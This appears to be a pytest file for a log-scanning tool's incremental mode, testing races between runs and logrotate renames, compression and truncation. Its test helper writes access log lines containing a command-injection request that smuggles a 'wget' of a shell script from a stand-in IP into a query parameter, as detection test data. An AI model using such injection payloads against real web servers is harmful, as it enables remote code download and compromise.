"""logrotate acting *during* an incremental run, each race forced at one exact moment with a hook
(no sleeps): between listing and opening (a wrapped `dropscan.state.incremental.probe`), between planning
and reading, in the middle of a read, between reading and committing. Whatever the moment, the
union of the runs reports every attack line exactly once, and says nothing false."""

from __future__ import annotations

import gzip
import json
import os
import re
import shutil
import zlib
from collections import Counter
from pathlib import Path

import pytest

from conftest import combined_line
from dropscan.engine import ScanOptions
from dropscan.errors import LockedError
from dropscan.state import incremental as state_mod
from dropscan.state.incremental import Incremental

ID = re.compile(r"id=(\d+)")


class Rotating:
    """A log directory with a writer whose attack lines carry ids, rotated by hand as logrotate
    does, and incremental runs through the library API with a hook at a chosen moment."""

    def __init__(self, root: Path, named: str = "dir"):
        self.d = root / "logs"
        self.d.mkdir()
        self.state = root / "state.json"
        self.named = named
        self.n = 0
        self.ids: list[int] = []  # attack ids written
        self.found: Counter[int] = Counter()
        self.warnings: list[str] = []

    def p(self, name: str) -> Path:
        return self.d / name

    def write(self, lines: int, name: str = "access.log") -> list[int]:
        out, ids = [], []
        for _ in range(lines):
            self.n += 1
            if self.n % 2:
                out.append(
                    combined_line(f"/x?id={self.n}&c=;wget http://198.51.100.9/{self.n}.sh", client="203.0.113.7")
                )
                ids.append(self.n)
            else:
                out.append(combined_line(f"/page/{self.n}.html", client="192.0.2.8"))
        with open(self.p(name), "ab") as fh:
            fh.write(b"".join(out))
        self.ids += ids
        return ids

    def gzip(self, a: str, b: str) -> None:
        self.p(b).write_bytes(gzip.compress(self.p(a).read_bytes()))
        os.unlink(self.p(a))

    def run(self, at: str | None = None, hook=None, chunk_size: int | None = None) -> list[str]:
        """One run; ``hook`` is called at ``at``: "read" (planned, nothing opened by the engine
        yet), "mid" (after the first finding) or "commit" (read, state not yet saved). Returns
        its errors."""
        target = str(self.p("access.log")) if self.named == "file" else str(self.d)
        opts = ScanOptions(chunk_size=chunk_size) if chunk_size else ScanOptions()
        with Incremental(self.state) as inc:
            run = inc.scan([target], opts)
            if at == "read":
                hook()
            for i, f in enumerate(run):
                self.found[int(ID.search(f.request).group(1))] += 1
                if at == "mid" and i == 0:
                    hook()
            if at == "commit":
                hook()
            inc.commit(run)
            self.warnings += inc.warnings
        return run.summary()["errors"]

    def check(self, lost: set[int] = frozenset()) -> None:
        assert {i: n for i, n in self.found.items() if n != 1} == {}, "reported twice"
        assert sorted(self.found) == sorted(set(self.ids) - lost)


@pytest.fixture(params=["dir", "file"])
def logs(request, tmp_path):
    return Rotating(tmp_path, request.param)


def probing(monkeypatch, name: str, action, after: bool = False) -> None:
    """Run ``action`` once, when the plan is about to open the file called ``name`` (after the
    directory was listed, before the file is opened), or just after it opened it."""
    real, fired = state_mod.probe, []

    def probe(path):
        if os.path.basename(path) != name or fired:
            return real(path)
        fired.append(path)
        if not after:
            action()
            return real(path)
        p = real(path)
        action()
        return p

    monkeypatch.setattr(state_mod, "probe", probe)


def test_race1_a_gz_renamed_during_a_run_is_read(logs):
    """A run plans ``.2.gz``; before it reads it, logrotate shifts it to ``.3.gz`` and writes a
    new ``.2.gz``. The planned file was never read, so it must not be recorded as finished."""
    logs.write(10, "access.log.2")
    logs.gzip("access.log.2", "access.log.2.gz")
    logs.write(10, "access.log.1")
    logs.write(10)
    if logs.named == "file":
        assert logs.run() == []  # the first run naming the live file reads only it
        logs.found.clear()
        logs.ids = []
        logs.write(4)

    def rotate():
        os.rename(logs.p("access.log.2.gz"), logs.p("access.log.3.gz"))
        logs.gzip("access.log.1", "access.log.2.gz")
        os.rename(logs.p("access.log"), logs.p("access.log.1"))
        logs.write(6)

    assert logs.run("read", rotate) == []
    assert logs.run() == []
    assert logs.run() == []
    logs.check()


@pytest.mark.parametrize("then", ["plain", "compress", "delaycompress"])
def test_race2_late_writes_to_the_rotated_file_are_read(logs, then):
    """After a graceful reload old workers still write to ``access.log.1`` for a while. Lines
    written there after a run read it are read by the next run: from ``.1``, from ``.1.gz``
    (``compress``) or from ``.2.gz`` after the next rotation (``delaycompress``)."""
    logs.write(10)
    assert logs.run() == []
    logs.write(4)
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(4)
    assert logs.run() == []
    logs.write(6, "access.log.1")  # late writes by old workers
    logs.write(2)
    if then == "compress":
        logs.gzip("access.log.1", "access.log.1.gz")
    elif then == "delaycompress":
        logs.gzip("access.log.1", "access.log.2.gz")
        os.rename(logs.p("access.log"), logs.p("access.log.1"))
        logs.write(4)
    assert logs.run() == []
    assert logs.run() == []
    logs.check()
    assert logs.warnings == []


def test_race3_gzip_finishes_between_listing_and_opening(logs, monkeypatch):
    """The plan lists ``access.log.1``; gzip finishes and logrotate unlinks it before it is
    opened. The run lists again and knows ``access.log.1.gz`` by its fingerprint: nothing twice,
    no error for the vanished name."""
    logs.write(10)
    assert logs.run() == []
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(4)
    logs.write(2, "access.log.1")
    probing(monkeypatch, "access.log.1", lambda: logs.gzip("access.log.1", "access.log.1.gz"))
    assert logs.run() == []
    monkeypatch.undo()
    assert logs.run() == []
    logs.check()


@pytest.mark.parametrize("kind", ["copytruncate", "gzip"])
def test_race3_a_copy_still_being_written_is_not_read_as_new(logs, kind):
    """copytruncate's copy, or gzip's output, caught after fewer bytes than a fingerprint: its
    first bytes begin those of a known file, so it is a copy, not a new file."""
    logs.write(12)
    assert logs.run() == []
    data = logs.p("access.log").read_bytes()
    if kind == "copytruncate":
        logs.p("access.log.1").write_bytes(data[:300])
    else:
        z = zlib.compressobj(6, zlib.DEFLATED, 31)
        logs.p("access.log.1.gz").write_bytes(z.compress(data[:300]) + z.flush(zlib.Z_SYNC_FLUSH))
    assert logs.run() == []  # the copy is neither read nor an error
    logs.write(2)
    if kind == "copytruncate":  # the copy completes, the log is truncated and written again
        logs.p("access.log.1").write_bytes(logs.p("access.log").read_bytes())
        os.truncate(logs.p("access.log"), 0)
    else:  # gzip completes and logrotate removes the original
        logs.p("access.log.1.gz").write_bytes(gzip.compress(logs.p("access.log").read_bytes()))
        os.unlink(logs.p("access.log"))
    logs.write(4)
    assert logs.run() == []
    assert logs.run() == []
    logs.check()
    assert logs.warnings == []


def test_race3_gzip_output_with_nothing_decompressible_yet_is_not_read(logs):
    """gzip has written its header only when the run plans; by the time the run reads it
    (through the descriptor) it holds the whole rotated file: reading it would report it twice."""
    logs.write(12)
    assert logs.run() == []
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(4)
    assert logs.run() == []
    data = logs.p("access.log.1").read_bytes()
    whole = gzip.compress(data)
    logs.p("access.log.1.gz").write_bytes(whole[:10])  # the header

    def finish():
        with open(logs.p("access.log.1.gz"), "r+b") as fh:
            fh.write(whole)
        os.unlink(logs.p("access.log.1"))

    assert logs.run("read", finish) == []
    logs.write(2)
    assert logs.run() == []
    logs.check()


def test_race4_copytruncate_during_a_read_then_refilled_past_the_read_position(logs):
    """copytruncate in the middle of a read, and the writer refills the log past where the read
    was: the run must not take the new lines for the old file's continuation."""
    logs.write(20)
    assert logs.run() == []
    logs.write(12_000)  # more than one block (READ_SIZE): the copy happens between two reads

    def copytruncate():
        shutil.copyfile(logs.p("access.log"), logs.p("access.log.1"))
        os.truncate(logs.p("access.log"), 0)
        logs.write(16_000)

    assert logs.run("mid", copytruncate, chunk_size=64 << 10) == []
    assert logs.run() == []
    assert logs.run() == []
    logs.check()


def test_race5_two_rotations_between_runs_and_the_predecessor_deleted(logs):
    """``rotate 1`` (or hourly rotation and a daily run): the file the last run knew was deleted,
    and the never-seen ``.1`` holds everything written since. It is read whole; the warning names
    only the old file's tail, which is really gone."""
    logs.write(10)
    assert logs.run() == []
    gone = logs.write(4)  # the old file's unread tail, deleted below
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(6)
    os.unlink(logs.p("access.log.1"))
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(4)
    assert logs.run() == []
    assert logs.run() == []
    logs.check(lost=set(gone))
    assert len(logs.warnings) == 1 and "lines written to it after line 10 were not read" in logs.warnings[0]


@pytest.mark.parametrize("suffix", ["-2026-12-01-1764590400", "-2026120114", "-20261201-1764590400"])
def test_race6_dateformat_names_are_rotations(logs, suffix):
    """logrotate's ``dateext`` with ``dateformat -%Y-%m-%d-%s`` or ``-%Y%m%d%H``: the rotated and
    then compressed file is known, not re-read."""
    logs.write(10)
    assert logs.run() == []
    logs.write(4)
    os.rename(logs.p("access.log"), logs.p("access.log" + suffix))
    logs.write(4)
    assert logs.run() == []
    logs.gzip("access.log" + suffix, "access.log" + suffix + ".gz")
    logs.write(2)
    assert logs.run() == []
    logs.check()
    assert logs.warnings == []


def test_race7_a_symlinked_state_is_locked_and_written_through(tmp_path):
    logs = Rotating(tmp_path)
    logs.write(6)
    target = tmp_path / "real-state.json"
    os.symlink(target, logs.state)
    with Incremental(logs.state):
        with pytest.raises(LockedError):
            Incremental(target).__enter__()
    assert logs.run() == []
    assert logs.state.is_symlink() and target.is_file()
    assert logs.run() == []
    logs.check()


def test_race7_stale_temp_files_of_this_state_are_removed(tmp_path):
    """A run killed while saving leaves its temp file; the next run on that state removes it,
    and only temp files of that state (another job may be saving its own)."""
    logs = Rotating(tmp_path)
    logs.write(6)
    ours = tmp_path / ".dropscan-state-state.json.k1ll3d.tmp"
    theirs = tmp_path / ".dropscan-state-other.json.busy.tmp"
    ours.write_text("{")
    theirs.write_text("{")
    assert logs.run() == []
    assert not ours.exists() and theirs.exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == [theirs.name]


def test_race7_a_file_renamed_between_listing_and_opening_is_followed(logs, monkeypatch):
    """The plan lists ``access.log.1``; logrotate compresses it to ``.2.gz`` and shifts the live
    file to ``.1`` before it is opened. No "cannot open" error: the run lists again."""
    logs.write(10)
    assert logs.run() == []
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(4)
    assert logs.run() == []
    logs.write(2, "access.log.1")
    logs.write(2)

    def rotate():
        logs.gzip("access.log.1", "access.log.2.gz")
        os.rename(logs.p("access.log"), logs.p("access.log.1"))
        logs.write(4)

    probing(monkeypatch, "access.log.1", rotate)
    assert logs.run() == []
    monkeypatch.undo()
    assert logs.run() == []
    logs.check()


def test_a_version_1_state_does_not_reread_the_archives_it_never_read(tmp_path):
    """A version 1 state (before the first bytes were kept) knew only the files it read: the
    archives next to a named live file that are older than what it recorded stay unread."""
    logs = Rotating(tmp_path, "file")
    logs.write(6, "access.log.2")
    logs.gzip("access.log.2", "access.log.2.gz")
    logs.write(6, "access.log.1")
    old = set(logs.ids)
    logs.write(6)
    stamp = os.stat(logs.p("access.log.1")).st_mtime - 10
    os.utime(logs.p("access.log.1"), (stamp, stamp))
    os.utime(logs.p("access.log.2.gz"), (stamp, stamp))
    assert logs.run() == []
    doc = json.loads(logs.state.read_text())
    doc["version"] = 1
    doc["files"] = [{k: v for k, v in e.items() if k != "head"} for e in doc["files"] if e["path"].endswith(".log")]
    logs.state.write_text(json.dumps(doc))
    logs.write(4)
    assert logs.run() == []
    os.rename(logs.p("access.log"), logs.p("access.log.1"))  # then rotated: known by fingerprint
    logs.write(4)
    assert logs.run() == []
    logs.check(lost=old)
    assert json.loads(logs.state.read_text())["version"] == 2


def test_race7_the_live_file_rotated_just_after_it_was_opened(logs, monkeypatch):
    """The plan opens ``access.log``; logrotate renames it to ``.1`` and creates a new one before
    the listing is checked. The second listing finds the opened file under its new name: it is
    read once, through the descriptor opened first, and the new file is opened too."""
    logs.write(10)
    assert logs.run() == []
    logs.write(4)

    def rotate():
        os.rename(logs.p("access.log"), logs.p("access.log.1"))
        logs.write(6)

    probing(monkeypatch, "access.log", rotate, after=True)
    assert logs.run() == []
    monkeypatch.undo()
    logs.write(2)
    assert logs.run() == []
    logs.check()


def test_a_file_a_listing_missed_is_not_forgotten(logs, monkeypatch):
    """A directory read while logrotate renames files in it may miss one (every listing of a
    run, under enough churn). What the state knows about it is kept: the next run does not read
    it whole again, and still reads what was added to it."""
    logs.write(10)
    assert logs.run() == []
    os.rename(logs.p("access.log"), logs.p("access.log.1"))
    logs.write(4)
    assert logs.run() == []
    real = Incremental._list

    def missing(self, paths, named):
        sources, errors, order = real(self, paths, named)
        return sources, errors, [p for p in order if not p.endswith("access.log.1")]

    monkeypatch.setattr(Incremental, "_list", missing)
    logs.write(2)
    assert logs.run() == []
    monkeypatch.undo()
    logs.write(2, "access.log.1")  # a late write to the file the listing missed
    assert logs.run() == []
    logs.check()
    assert logs.warnings == []
